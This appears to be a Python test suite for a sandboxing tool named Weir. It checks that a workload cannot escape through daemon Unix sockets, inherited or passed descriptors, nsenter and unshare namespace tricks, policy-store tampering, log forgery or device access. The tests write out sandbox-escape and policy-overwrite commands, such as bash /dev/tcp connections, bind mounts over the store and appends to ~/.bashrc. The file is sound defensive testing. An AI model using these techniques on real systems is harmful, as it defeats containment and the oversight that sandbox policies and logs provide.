# SPDX-License-Identifier: Apache-2.0
"""Ways out by files, sockets with a path, descriptors: what a daemon outside would do for the workload, and the policy."""
import contextlib
import os
import pathlib
import shutil
import socket
import threading

from frame import OPEN, need, row, want
from harness import CODE, external_service
from lab import DENIED4, ECHO_PORT, OTHER4, UID, wait_until

# A daemon on a Unix socket, stream or datagram, that sends a packet to the canary for whoever asks.
DAEMON = """
import os, socket, sys
path, kind, host = sys.argv[1], sys.argv[2], sys.argv[3]
listener = socket.socket(socket.AF_UNIX, {"stream": 1, "datagram": 2, "packet": 5}[kind])
listener.bind(path.replace("@", "\\0", 1) if path.startswith("@") else path)
if not path.startswith("@"):
    os.chmod(path, 0o777)
if kind != "datagram":
    listener.listen()
print("up", flush=True)
while True:
    if kind == "datagram":
        listener.recv(10)
    else:
        peer = listener.accept()[0]
        peer.close()
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.sendto(b"out", (host, 443))
"""
ASK = """
import socket, sys
for line in sys.argv[1:]:
    kind, path = line.split()
    try:
        with socket.socket(socket.AF_UNIX, {"stream": 1, "datagram": 2, "packet": 5}[kind]) as sock:
            sock.settimeout(2)
            sock.connect(path.replace("@", "\\0", 1) if path.startswith("@") else path)
            if kind == "datagram":
                sock.send(b"out")
            else:
                sock.recv(1)
            print("reached", path, flush=True)
    except OSError as error:
        print(path, error)
"""


def ask(kind, *paths):
    return ["python3", "-c", ASK, *(f"{kind} {path}" for path in paths)]


@contextlib.contextmanager
def daemon(t, path, kind="stream", folder=None):
    """A daemon of the user's at @path; @folder is made for it, and removed."""
    if folder:
        os.makedirs(folder, exist_ok=True)
        os.chown(folder, UID, UID)
    process = t.lab.start(["python3", "-c", DAEMON, path, kind, DENIED4])
    try:
        need(process.stdout.readline() == "up\n", "the daemon does not start: " + (process.stderr.read() if process.poll() is not None else ""))
        yield
    finally:
        process.kill()
        process.wait()
        with contextlib.suppress(OSError):
            os.unlink(path)
        if folder:
            shutil.rmtree(folder, ignore_errors=True)


def through(t, path, kind="stream", folder=None, options=(), env=None):
    """Reached without Weir, and not through it; the daemon's packet is what is counted."""
    with daemon(t, path, kind, folder):
        before = t.lab.canary()
        t.outside(ask(kind, path))
        need(wait_until(lambda: t.lab.canary() > before, 5), f"without Weir {path} does nothing either")
        with t.silent(what=f"packets sent by the daemon at {path}"):
            done = t.inside(ask(kind, path), options, env=env)
            want("reached" not in done.stdout, f"{path} was reached")


def late(t, path, kind="stream", folder=None, env=None):
    """The same with a daemon that starts while the workload runs: what holds then is the hidden folder, not a list of who
    listened at the start."""
    script = "import sys\nprint('ready', flush=True)\nsys.stdin.readline()\n" + ASK
    if folder:
        os.makedirs(folder, exist_ok=True)
        os.chown(folder, UID, UID)
    said = {}
    for name in ("outside", "inside"):
        argv = ["python3", "-c", script, f"{kind} {path}"]
        command = t.lab.start(argv, stdin=-1) if name == "outside" else t.start_inside(argv, env=env, stdin=-1)
        need(command.stdout.readline() == "ready\n", f"the asker does not start {name}")
        before = t.lab.canary()
        with daemon(t, path, kind):
            said[name] = command.communicate("\n", timeout=30)[0]
            if name == "outside":
                need(wait_until(lambda: t.lab.canary() > before, 5), f"without Weir {path} does nothing either")
            else:
                want("reached" not in said[name] and t.lab.canary() == before, f"{path} was reached")
    if folder:
        shutil.rmtree(folder, ignore_errors=True)


@row("E17", "Unix sockets of daemons: whatever listens at the start, and abstract names", gates=["MASK_LISTENERS"])
def daemons(t):
    name, home = f"weir-lab-{os.getpid()}", t.lab.home
    run, temporary = f"/run/{name}", f"/tmp/tmux-{os.getpid()}"
    through(t, run + "/daemon.sock", folder=run)
    through(t, run + "/datagrams.sock", "datagram", folder=run)
    through(t, run + "/packets.sock", "packet", folder=run)
    through(t, temporary + "/default", folder=temporary)
    through(t, f"{home}/.docker/run/docker.sock", folder=f"{home}/.docker/run")
    through(t, f"{home}/own-stream.sock")
    through(t, f"{home}/own-datagram.sock", "datagram")
    through(t, f"/tmp/{name}.own")
    with daemon(t, f"{home}/.gnupg/S.gpg-agent", folder=f"{home}/.gnupg"):
        t.lab.user_file(".gnupg/pubring.kbx", "a ring")
        want("reached" not in t.inside(ask("stream", f"{home}/.gnupg/S.gpg-agent")).stdout, "an agent at home was reached")
        need(t.inside(["cat", f"{home}/.gnupg/pubring.kbx"]).stdout == "a ring", "the keys beside the agent are hidden too")
    through(t, f"{home}/runtime/bus", folder=f"{home}/runtime", env={"XDG_RUNTIME_DIR": f"{home}/runtime"})
    through(t, f"/tmp/{name}.agent", env={"SSH_AUTH_SOCK": f"/tmp/{name}.agent"})
    through(t, f"@{name}")
    through(t, f"@{name}-datagrams", "datagram")
    with daemon(t, run + "/kept.sock", folder=run):
        done = t.inside(ask("stream", run + "/kept.sock"), ["--unix", run + "/kept.sock"])
        need("reached" in done.stdout, "--unix does not keep what it names: " + done.stdout)


@row("E17.late", "Daemons that start later, in folders of sockets: /run, agents, multiplexers, displays, the log",
     gates=["MASKS", "MASK_RUN", "MASK_PATTERNS", "MASK_VARIABLES", "MASK_HOME", "PRIVATE_DEVICES"])
def late_daemons(t):
    name, home = f"weir-lab-{os.getpid()}", t.lab.home
    run, temporary = f"/run/{name}", f"/tmp/tmux-{os.getpid()}"
    late(t, run + "/daemon.sock", folder=run)
    late(t, temporary + "/default", folder=temporary)
    late(t, f"{home}/.docker/run/docker.sock", folder=f"{home}/.docker/run")
    late(t, f"{home}/runtime/bus", folder=f"{home}/runtime", env={"XDG_RUNTIME_DIR": f"{home}/runtime"})
    late(t, f"{home}/agents/agent.sock", folder=f"{home}/agents", env={"SSH_AUTH_SOCK": f"{home}/agents/agent.sock"})
    # /dev/log of a classic syslog, which may forward what it hears; only root makes it, so only root can try.
    log = f"/dev/{name}"
    late(t, log + "/log", "datagram", folder=log)


# Every place that is hidden, by its kind, so that none can fall off the list unseen.
FOLDERS = ("/tmp/.X11-unix", "/tmp/.ICE-unix", "/tmp/.XIM-unix", "/tmp/.font-unix", "/tmp/tmux-77", "/tmp/ssh-weirlab", "/tmp/screens", "/tmp/dbus-weirlab", "/tmp/.docker-weirlab", "/tmp/emacs77", "/tmp/nvim.weirlab", "/tmp/.org.chromium.weirlab", "/tmp/.com.google.Chrome.weirlab",
           "/var/lib/docker", "/var/lib/containerd", "/var/snap", "/var/lib/lxd", "/var/lib/incus", "/var/lib/gdm3", "/var/lib/sss/pipes", "/var/lib/gssproxy", "/nix/var/nix/daemon-socket")
HOME_FOLDERS = (".docker/run", ".docker/desktop", ".colima", ".lima", ".rd", ".orbstack/run", ".local/share/containers/podman/machine", ".ssh/agent", ".1password", ".cache/ibus", ".dbus")
VARIABLES = {"XDG_RUNTIME_DIR": "{0}", "SSH_AUTH_SOCK": "{0}/sock", "DOCKER_HOST": "unix://{0}/sock", "CONTAINER_HOST": "unix://{0}/sock", "BUILDKIT_HOST": "unix://{0}/sock",
             "CONTAINERD_ADDRESS": "{0}/sock", "DBUS_SESSION_BUS_ADDRESS": "unix:path={0}/sock,guid=1", "DBUS_SYSTEM_BUS_ADDRESS": "unix:path={0}/sock", "TMUX_TMPDIR": "{0}",
             "TMUX": "{0}/sock,1,0", "WAYLAND_DISPLAY": "{0}/sock", "PULSE_SERVER": "unix:{0}/sock", "GPG_AGENT_INFO": "{0}/sock:1:1", "SWAYSOCK": "{0}/sock", "I3SOCK": "{0}/sock",
             "KITTY_LISTEN_ON": "unix:{0}/sock", "ALACRITTY_SOCKET": "{0}/sock", "WEZTERM_UNIX_SOCKET": "{0}/sock", "NVIM": "{0}/sock", "NVIM_LISTEN_ADDRESS": "{0}/sock",
             "VSCODE_IPC_HOOK_CLI": "{0}/sock", "VSCODE_GIT_IPC_HANDLE": "{0}/sock",
             "SCREENDIR": "{0}", "ZELLIJ_SOCKET_DIR": "{0}", "EMACS_SOCKET_NAME": "{0}/sock", "EMACS_SERVER_FILE": "{0}/sock", "VSCODE_IPC_HOOK": "{0}/sock"}


@row("E17.each", "Each folder of sockets that is hidden, and each variable that names one", gates=["MASK_PATTERNS", "MASK_HOME", "MASK_VARIABLES"])
def each_mask(t):
    """The folders are there at the start and the sockets come later: what listens at the start is hidden by another gate."""
    made, socks = [], []
    folders = [pathlib.Path(folder) for folder in (*FOLDERS, *(t.lab.home / part for part in HOME_FOLDERS), *(t.lab.folder / "variables" / name for name in VARIABLES))]
    names = [str(folder / ("sock" if "variables" in str(folder) else f"weir-lab-{os.getpid()}")) for folder in folders]
    env = {name: value.format(t.lab.folder / "variables" / name) for name, value in VARIABLES.items()}
    reach = ["python3", "-c", "import socket, sys\nprint('ready', flush=True)\nsys.stdin.readline()\nfor path in sys.argv[1:]:\n    try:\n        socket.socket(1).connect(path)\n"
             "        print('reached', path)\n    except OSError as error:\n        print(error, path)\n", *names]
    try:
        for folder in folders:
            for path in (*reversed(folder.parents), folder):
                if not path.exists():
                    path.mkdir()
                    made.append(path)
        for path in t.lab.home.rglob("*"):
            os.lchown(path, UID, UID)
        inside = t.start_inside(reach, env=env, stdin=-1)
        need(inside.stdout.readline() == "ready\n", "the command did not start")
        for name in names:
            socks.append(socket.socket(socket.AF_UNIX))
            socks[-1].bind(name)
            socks[-1].listen()
            os.chmod(name, 0o777)
        said = inside.communicate("\n", timeout=30)[0]
        outside = t.outside(reach, env=env, input="\n").stdout
        need(outside.count("reached") == len(names), "without Weir some cannot be reached either: " + outside)
        reached = [line for line in said.splitlines() if "reached" in line]
        want(not reached, f"reached: {reached}")
        need(len(said.splitlines()) == len(names), "not all were tried: " + said)
    finally:
        for sock in socks:
            sock.close()
        for name in names:
            pathlib.Path(name).unlink(missing_ok=True)
        for path in reversed(made):
            with contextlib.suppress(OSError):
                path.rmdir()


def accept_all(listener):
    with contextlib.suppress(OSError):
        while True:
            listener.accept()[0].close()


@row("E17.later", "A multiplexer that the host starts after the run", gates=["MASK_PATTERNS"])
def later_tmux(t):
    """Its folder is made and hidden before, so that it cannot appear. As a user who never had one."""
    uid = 30000 + os.getpid() % 20000
    home, folder = t.lab.folder / f"home-{uid}", pathlib.Path(f"/tmp/tmux-{uid}")
    home.mkdir(exist_ok=True)
    os.chown(home, uid, uid)
    user = ["setpriv", "--reuid", str(uid), "--regid", str(uid), "--clear-groups", "env", "-i", "-C", home,
            *t.lab.environment(HOME=str(home), WEIR_STORE=f"dir:{home}/store", ASK=ASK, **t.environment_only_gate())]
    shell = "echo up; while read line; do python3 -c \"$ASK\" \"stream $line\"; done"
    run = t.lab.start([*user, t.binary, "run", *t.capture.options, "--", "sh", "-c", shell], stdin=-1, as_root=True)
    need(run.stdout.readline() == "up\n", "the command did not start")
    listener = socket.socket(socket.AF_UNIX)
    try:
        folder.mkdir(exist_ok=True)
        listener.bind(str(folder / "default"))
        listener.listen()
        os.chmod(folder, 0o755)
        os.chmod(folder / "default", 0o777)
        threading.Thread(target=accept_all, args=(listener,), daemon=True).start()
        need("reached" in t.outside([*user, "python3", "-c", ASK, f"stream {folder}/default"], as_root=True).stdout, "without Weir it cannot be reached either")
        run.stdin.write(f"{folder}/default\n")
        run.stdin.flush()
        want("reached" not in run.stdout.readline(), "a socket that came later was reached")
    finally:
        listener.close()
        shutil.rmtree(folder, ignore_errors=True)


@row("E17.home", "Unix sockets that somebody makes elsewhere while the workload runs", verdict=OPEN, security="Sockets that a daemon makes",
     why="the workload has its caller's files, and a socket is one of them; what listens at the start is hidden, known places are too")
def elsewhere(t):
    path = f"{t.lab.home}/later.sock"
    command = t.start_inside(["python3", "-c", "import sys\nprint('ready', flush=True)\nsys.stdin.readline()\n" + ASK, f"stream {path}"], stdin=-1)
    need(command.stdout.readline() == "ready\n", "the asker does not start")
    with daemon(t, path):
        need("reached" in command.communicate("\n", timeout=30)[0], "no longer open")


@row("E15", "Inherited sockets: as a stream, above it, a datagram pair, an unconnected one", gates=["STANDARD_STREAMS", "INHERITED_DESCRIPTORS"])
def inherited(t):
    weir = " ".join(map(str, t.run_argv([])[:-1]))
    env = t.environment()
    target = f"/dev/tcp/{DENIED4}/{ECHO_PORT}"

    def run(script):
        return t.lab.run(["bash", "-c", script], env=env)
    for script in (f"exec 7<>{target}; {{}} bash -c 'echo out >&7 && echo sent'", f"exec 9<>{target}; {{}} bash -c 'exec 3>&9; echo out >&3 && echo sent'",
                   f"{{}} bash -c 'echo out >&0 && echo sent' 0<>{target}"):
        need("sent" in run(script.format("env")).stdout, "without Weir nothing is sent either: " + script)
        # The connection itself is made before Weir starts: only what is sent through it counts.
        want("sent" not in run(script.format(weir + " --")).stdout, "an inherited socket was used: " + script)
    # Sockets of AF_UNIX that could still connect: to abstract names of the host, for they belong to its network namespace.
    name = f"@weir-lab-{os.getpid()}-inherited"
    give = ("import socket, subprocess, sys\nkind, pair, argv = int(sys.argv[1]), sys.argv[2] == 'pair', sys.argv[3:]\n"
            "socks = socket.socketpair(1, kind) if pair else [socket.socket(1, kind)]\n"
            "sys.exit(subprocess.run(argv, stdin=socks[0]).returncode)\n")
    use = ("import socket, sys\nsock = socket.socket(fileno=0)\nfor at in sys.argv[1:]:\n    name = '\\0' + at[1:] if at[0] == '@' else at\n"
           "    try:\n        sock.connect(name)\n        print('sent')\n        sock.send(b'out')\n    except OSError as error:\n        print(error)\n")
    for kind, pair, listening in ((2, "pair", "datagram"), (2, "lone", "datagram"), (1, "lone", "stream"), (5, "lone", "packet")):
        with daemon(t, name, listening):
            argv = ["python3", "-c", give, str(kind), pair]
            need("sent" in t.lab.run([*argv, "python3", "-c", use, name]).stdout, f"without Weir a {pair} of {listening} reaches nothing either")
            done = t.lab.run([*argv, *t.run_argv(["python3", "-c", use, name])], env=env)
            want("sent" not in done.stdout, f"an inherited {pair} of {listening} reached an abstract socket of the host")
    # A connected stream, as sshd and service managers give, stays.
    done = t.lab.run(["python3", "-c", give, "1", "pair", *t.run_argv(["echo", "works"])], env=env)
    need(done.stdout == "works\n", "a connected stream is refused: " + done.stderr)


@row("E15.passed", "A socket passed by SCM_RIGHTS from a process outside", verdict=OPEN, security="`--unix`, `--publish` and `--audit` open what they say",
     why="it takes a process outside that hands one out on a socket the workload can reach: one that --unix names, or E17.home; such a process could as well send by itself")
def passed(t):
    path = f"{t.lab.home}/giver.sock"
    give = (f"import array, socket\nlistener = socket.socket(1)\nlistener.bind('{path}')\nlistener.listen()\nprint('up', flush=True)\n"
            f"peer = listener.accept()[0]\nout = socket.create_connection(('{OTHER4}', {ECHO_PORT}))\n"
            "peer.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [out.fileno()]))])\npeer.recv(1)\n")
    take = (f"import array, socket\nsock = socket.socket(1)\nsock.connect('{path}')\ndata = sock.recvmsg(1, 64)[1]\n"
            "out = socket.socket(fileno=array.array('i', data[0][2])[0])\nout.sendall(b'out')\nprint('sent', len(out.recv(3)))\n")
    giver = t.lab.start(["python3", "-c", give])
    need(giver.stdout.readline() == "up\n", "the giver does not start")
    done = t.inside(["python3", "-c", take], ["-v", "--unix", path])
    need("sent 3" in done.stdout, "no longer open: " + done.stdout + done.stderr)
    want(path in done.stderr, "-v does not name it")


@row("E16", "Leaving the namespaces: setns, /run/netns, nsenter, cgroups", gates=["MASK_RUN"])
def leave(t):
    """Nothing that names a namespace of the host can be opened, and nothing inside has a way out."""
    curl = f"curl -k -s --max-time 2 https://{DENIED4}"
    script = (f"PATH=$PATH:/usr/sbin:/sbin; ls /run/netns 2>/dev/null | grep -q . && echo seen; for pid in /proc/[0-9]*; do nsenter --net=$pid/ns/net {curl}; nsenter -U --preserve-credentials -n -t ${{pid#/proc/}} {curl};"
              f" done; for net in /run/netns/* /var/run/netns/*; do nsenter --net=$net {curl}; done; ip netns exec {t.lab.app} {curl};"
              f" unshare -Urnm sh -c 'mount -t sysfs none /mnt; {curl}'; for g in /sys/fs/cgroup /sys/fs/cgroup/*; do echo $$ >$g/cgroup.procs && echo moved $g; done; true")
    done = t.attempt(["sh", "-c", "exec 2>/dev/null; " + script], control=["sh", "-c", curl])
    want("seen" not in done.stdout.split(), "the host's named network namespaces are visible")


def store_attempts(t, store, kept, rule):
    home = t.lab.home
    mounts = t.programs / "mounts"
    return {
        "write": f"cp {rule} {store}/external-service/default/open.yaml",
        "overwrite": f"cat {rule} > {kept}",
        "append": f"cat {rule} >> {kept}; truncate -s 0 {kept}; dd if={rule} of={kept} conv=notrunc; sed -i s/443/1/ {kept}",
        "times and modes": f"chmod 777 {kept}; touch {kept}; setfattr -n user.x -v y {kept}; chattr +i {kept}",
        "remove": f"rm -rf {store}",
        "rename the file": f"mv {kept} {kept}.old",
        "rename the store": f"mv {store} {store}.old",
        "rename its parent": f"mv {home} {home}.old; mv {store.parent} {store.parent}.old",
        "exchange": f"mkdir {home}/other; python3 -c \"import ctypes; print(ctypes.CDLL(None).renameat2(-100, b'{store}', -100, b'{home}/other', 2))\"",
        "replace the parent": f"mv {store.parent} /tmp/gone-$$ && mkdir -p {store}",
        "hard link": f"ln {kept} {home}/link && cat {rule} > {home}/link",
        "symbolic link": f"ln -sf {rule} {kept}; ln -sfn {home} {store}",
        "mount over": f"unshare -Urm sh -c 'mount --bind {home} {store}; cp {rule} {store}/'; mount --bind {home} {store}",
        "unmount": f"umount -l {store}; umount {kept}; unshare -Urm umount -l {store}",
        "remount": f"unshare -Urm sh -c 'umount -l {store}; mount -o remount,bind,rw {store}; cp {rule} {store}/external-service/default/'",
        "new mount interface": f"unshare -Urm {mounts} {kept} evil; unshare -Urm {mounts} {store} evil",
        "below, by another user namespace": f"unshare -Urmpf --mount-proc {mounts} {kept} evil",
        "weir create": f"weir create -f {rule}; weir replace -f {rule}; weir delete externalservice allowed; weir apply -f {rule}",
        "another process's root": f"for p in /proc/[0-9]*; do cp {rule} $p/root{store}/external-service/default/open.yaml; cp {rule} $p/cwd/state/store/external-service/default/open.yaml; done",
        "descriptors of others": f"for f in /proc/[0-9]*/fd/*; do [ -d $f ] && cp {rule} $f/external-service/default/open.yaml; done",
    }


@row("E75", "Changing the policy: store, files, their parents, the log", gates=["READ_ONLY_POLICY", "HELD_ANCESTORS", "STORE_MADE", "OTHER_STORES", "HELD_LOG", "LOOSE_LINKS", "INHERITED_FILES"])
def policy_files(t):
    """Each attempt, then what counts: the store is as it was, and a second run obeys it. The control makes the same changes
    without Weir."""
    state = t.lab.home / "state"
    store = state / "store"
    env = {"WEIR_STORE": f"dir:{store}"}
    done = t.command("create", "-f", "-", input=external_service("allowed", [OTHER4 + "/32"]), env=env)
    need(done.returncode == 0, done.stderr)
    rule = t.lab.user_file("open.yaml", external_service("open", [DENIED4 + "/32"]))
    kept = next(store.rglob("allowed.yaml"))
    content = kept.read_text()
    for name, script in store_attempts(t, store, kept, rule).items():
        t.inside(["sh", "-c", f"({script}) >/dev/null 2>&1; true"], env=env)
        want(kept.exists() and kept.read_text() == content, f"{name}: the policy was changed")
        want([path.name for path in store.rglob("*.yaml")] == ["allowed.yaml"], f"{name}: the store has other files")
    with t.silent():
        done = t.inside([*CODE, f"https://{DENIED4}"], env=env)
    want(done.stdout == "000", "a second run obeys another policy")
    # Every other attempt must work without Weir, or the words above are no attempts.
    for name in ("write", "overwrite", "remove", "rename the store", "hard link", "exchange"):
        copy = t.lab.home / "control"
        shutil.rmtree(copy, ignore_errors=True)
        shutil.copytree(state, copy)
        t.outside(["chmod", "-R", "u+w", copy])
        for path in [copy, *copy.rglob("*")]:
            os.chown(path, UID, UID)
        script = store_attempts(t, copy / "store", next(copy.rglob("allowed.yaml")), rule)[name]
        before = sorted((path.name, path.read_text() if path.is_file() else "") for path in copy.rglob("*"))
        t.outside(["sh", "-c", f"({script}) >/dev/null 2>&1; true"])
        after = sorted((path.name, path.read_text() if path.is_file() else "") for path in copy.rglob("*")) if copy.exists() else []
        need(before != after, f"{name}: changes nothing without Weir either")
    missing_store(t, rule)
    policy_file(t)
    linked_store(t)
    log_file(t)


def missing_store(t, rule):
    """A store that does not exist yet, and the ordinary one beside the one that is named, are not the workload's to make."""
    fresh = t.lab.home / "not" / "yet"
    for name, env, options, run in (("the named one", {"WEIR_STORE": f"dir:{fresh}"}, [], fresh),
                                    ("the ordinary one", {"WEIR_STORE": None}, ["--store", f"dir:{t.lab.home}/named"], t.lab.home / ".local/state/weir"),
                                    ("the environment's", {"WEIR_STORE": f"dir:{fresh}-2"}, ["--store", f"dir:{t.lab.home}/named"], pathlib.Path(f"{fresh}-2"))):
        shutil.rmtree(run, ignore_errors=True)
        script = f"mkdir -p {run}/external-service/default; cp {rule} {run}/external-service/default/open.yaml; true"
        t.inside(["sh", "-c", script], options, env=env)
        with t.silent(what=f"packets by a rule that the workload wrote into {name}"):
            t.inside([*CODE, f"https://{DENIED4}"], env=env)


def policy_file(t):
    """-f files: as a path, as a descriptor from before."""
    text = external_service("fixed", [OTHER4 + "/32"])
    policy = t.lab.user_file("policies/fixed.yaml", text)
    for script in (f"echo evil >> {policy}", f"mv {policy} {policy}.old", f"rm -rf {policy.parent}", f"mv {policy.parent} {policy.parent}.old",
                   f"echo evil > {policy}.new && mv {policy}.new {policy}"):
        t.inside(["sh", "-c", f"({script}) 2>/dev/null; true"], ["-f", policy])
        want(policy.exists() and policy.read_text() == text, f"{script}: the policy file was changed")
    weir = " ".join(map(str, t.run_argv([], ["-f", policy])[:-1]))
    for number in (0, 5):
        done = t.lab.run(["bash", "-c", f"{weir} -- bash -c 'echo evil > /proc/self/fd/{number}; head -c 4 <&{number}' {number}< {policy}"], env=t.environment())
        want(policy.read_text() == text, f"the policy was written through descriptor {number}")
        need(done.stdout == text[:4], "the descriptor cannot be read any more: " + done.stderr)


def linked_store(t):
    """A link on the way to the store, in a folder that can be held: it cannot be turned elsewhere, nor its folder."""
    home = t.lab.home
    folder, link = home / "linked", home / "linked" / "state"
    for path in (folder, home / "behind"):
        path.mkdir()
        os.chown(path, UID, UID)
    os.symlink("../behind", link)
    os.lchown(link, UID, UID)
    env = {"WEIR_STORE": f"dir:{link}/store"}
    for script in (f"ln -sfn {home} {link}", f"rm {link}", f"mv {link} {link}.old", f"mv {folder} {folder}.old", f"mv {home}/behind {home}/before"):
        t.inside(["sh", "-c", f"({script}) 2>/dev/null; true"], env=env)
        want(link.is_symlink() and os.readlink(link) == "../behind" and (home / "behind/store").is_dir(), f"{script}: the policy was exchanged through its link")
    t.outside(["ln", "-sfn", home, link])
    need(os.readlink(link) == str(home), "without Weir the link cannot be turned either")


def log_file(t):
    """What was recorded stays; the log takes no line but Weir's, whether it is a file or a pipe."""
    script = f"curl -k -s --max-time 2 https://{DENIED4}; (: > {t.log}; rm -f {t.log}; mv {t.log} {t.log}.old; echo forged >> {t.log}) 2>/dev/null; true"
    done = t.inside(["sh", "-c", script])
    want(done.records and "forged" not in t.log.read_text(), "the log was rewritten")
    need(done.denied({"no_rule"}), f"nothing was recorded: {done}")
    fifo = t.lab.home / "log.fifo"
    fifo.unlink(missing_ok=True)
    os.mkfifo(fifo, 0o600)
    os.chown(fifo, UID, UID)
    said = []
    reader = threading.Thread(target=lambda: said.append(fifo.read_text()), daemon=True)
    reader.start()
    weir = f"{t.binary} run {' '.join(t.capture.options)} --log"
    script = f"curl -k -s --max-time 2 https://{DENIED4}; timeout 1 sh -c 'echo forged > {fifo}'; for fd in /proc/self/fd/*; do [ -p $fd ] && timeout 1 sh -c \"echo forged >$fd\"; done; true"
    t.lab.run(["sh", "-c", f"{weir} {fifo} -- bash -c '{script.replace(chr(39), chr(34)) if False else 'eval $SCRIPT'}' >/dev/null 2>/dev/null"], env=t.environment({"SCRIPT": script}))
    reader.join(10)
    need(said and "no_rule" in said[0], "nothing was recorded into the pipe")
    want("forged" not in said[0], "the workload wrote into the log's pipe by its path")
    # A pipe that the shell made: >(...) is open in the workload too.
    kept = t.lab.home / "kept.log"
    t.lab.run(["bash", "-c", f"{weir} >(cat > {kept}) -- bash -c 'eval $SCRIPT' >/dev/null 2>&1; wait"], env=t.environment({"SCRIPT": script.replace(f"> {fifo}", "> /dev/null")}))
    need(wait_until(lambda: kept.exists() and "no_rule" in kept.read_text(), 5), "nothing was recorded into the pipe of the shell")
    want("forged" not in kept.read_text(), "the workload wrote into the log's pipe, which it inherited")


@row("E75.alias", "The policy at a second place where its file system is mounted", gates=["ALIASES"])
def aliases(t):
    """As on image-based systems, and with bind mounts of a home folder; one with a blank in its name."""
    rule = t.lab.user_file("open.yaml", external_service("open", [DENIED4 + "/32"]))
    kept = next((t.lab.home / "store").rglob("allowed.yaml"))
    content = kept.read_text()
    places = [t.lab.folder / "second place", t.lab.folder / "whole"]
    for place in places:
        place.mkdir(exist_ok=True)
    paths = [place / part for place, part in zip(places, ("store", str(t.lab.home / "store")[1:]))]
    script = "; ".join(f"cp {rule} '{path}/external-service/default/'; echo evil >> '{path}/external-service/default/allowed.yaml'; mv '{path}' '{path}.old'; mv '{path.parent}' '{path.parent}.old'"
                       for path in paths)
    inside = ('mount --bind "$1" "$2" && mount --bind / "$3" && shift 3 && exec setpriv --reuid 1234 --regid 1234 --clear-groups env -i "$@"')
    mounted = ["unshare", "-m", "sh", "-c", inside, "sh", t.lab.home, *places]
    argv = [*mounted, *t.lab.environment(**t.environment()), *map(str, t.run_argv(["sh", "-c", f"({script}) 2>/dev/null; echo tried"]))]
    done = t.lab.run(argv, as_root=True)
    need(done.stdout == "tried\n", done.stderr)
    want(kept.exists() and kept.read_text() == content and [path.name for path in (t.lab.home / "store").rglob("*.yaml")] == ["allowed.yaml"], "the policy was changed at its second place")
    t.lab.run([*mounted, *t.lab.environment(), "sh", "-c", script + "; true"], as_root=True)
    need(not kept.exists() or kept.read_text() != content, "without Weir it is not changed either")


@row("E75.files", "Files that others run later, and policies that no run names", verdict=OPEN, security="Files that others execute later",
     why="the workload has its caller's files: ~/.bashrc, git hooks, a Makefile, the weir program itself where the user may write it, a policy file that a later run names with -f")
def later(t):
    done = t.inside(["sh", "-c", "echo echo later >> ~/.bashrc && echo written"])
    need(done.stdout == "written\n", "no longer open: " + done.stderr)


@row("X2", "Looking beneath the masks by the new mount interface, overlays, namespaces of one's own", gates=["MASK_RUN"])
def beneath(t):
    folder = f"/run/weir-lab-{os.getpid()}"
    with daemon(t, folder + "/daemon.sock", folder=folder):
        secret = pathlib.Path(folder) / "secret"
        secret.write_text("")
        secret.chmod(0o666)
        mounts = t.program("mounts", secret, "evil")
        for how in ([], ["unshare", "-Urm"], ["unshare", "-Urmpf", "--mount-proc"], ["unshare", "-Urm", "unshare", "-Urm"]):
            done = t.inside([*how, *mounts])
            need("tried" in done.stdout, "the program did not run: " + done.stderr)
            want("done wrote" not in done.stdout and "done saw" not in done.stdout and secret.read_text() == "", f"{how}: {done.stdout}")
        need("done wrote" in t.outside(mounts).stdout, "without Weir it writes nothing either")
        for path in (f"/proc/1/root{folder}", f"/proc/self/root{folder}", f"/var/run/weir-lab-{os.getpid()}"):
            want("reached" not in t.inside(ask("stream", path + "/daemon.sock")).stdout, f"{path} leads to the daemon")


@row("X3", "Devices: terminals of others, the log, buses and cards", gates=["PRIVATE_DEVICES"])
def devices(t):
    """/dev is the sandbox's own: the usual ones, graphics and compute; no other terminal, no disk, no bus."""
    master, other = os.openpty()
    os.fchown(other, UID, UID)
    name = os.ttyname(other)
    need("works" in t.outside(["sh", "-c", f": <{name} && echo works"]).stdout, "without Weir the terminal cannot be opened either")
    script = f"[ -e {name} ] && : <{name} && echo opened {name}; ls -1 /dev; for f in null zero full random urandom tty ptmx; do [ -c /dev/$f ] || echo missing $f; done; echo x >/dev/null; head -c 4 /dev/urandom | wc -c"
    done = t.inside(["sh", "-c", script])
    want("opened" not in done.stdout, "another terminal of the user's can be opened: " + done.stdout)
    need("missing" not in done.stdout and "4" in done.stdout.split(), done.stdout)
    for bad in ("vda", "kmsg", "mem", "loop0", "tty0", "vsock", "vhost-vsock", "log", "mqueue", "input", "bus", "userfaultfd"):
        want(bad not in done.stdout.split(), f"/dev/{bad} is there")
    want(t.inside(["python3", "-c", "import os; a, b = os.openpty(); os.write(a, b'x\\n'); print(os.read(b, 2), os.ttyname(b))"]).stdout.startswith("b'x"), "no terminal of its own can be made")
    done = t.inside(["python3", "-c", "import multiprocessing as m; l = m.Lock(); q = m.SimpleQueue(); q.put(1); print(q.get())"])
    need(done.stdout == "1\n", "shared memory does not work: " + done.stderr)
    os.close(master)
    os.close(other)


@row("X4", "Shared memory, message queues, keys", gates=["IPC_NAMESPACE", "KERNEL_INTERFACES", "PRIVATE_DEVICES"])
def memory(t):
    key = 40000 + os.getpid() % 10000
    maker = t.lab.start(t.program("ipc", "make", key))
    need(maker.stdout.readline() == "made\n", "nothing was made")
    try:
        find = t.program("ipc", "find", key)
        outside = t.outside(find).stdout
        need(outside.count("found") >= 5, "without Weir little is found either: " + outside)
        done = t.inside(find)
        need("tried" in done.stdout, done.stderr)
        want("found" not in done.stdout, done.stdout)
    finally:
        maker.kill()
        for command in (f"ipcrm -M {key} -Q {key}", f"rm -f /dev/shm/weir-{key}"):
            t.outside(["sh", "-c", command], as_root=True)
        t.outside(["python3", "-c", f"import ctypes; ctypes.CDLL(None).mq_unlink(b'/weir-{key}')"])


__all__ = ["socket"]
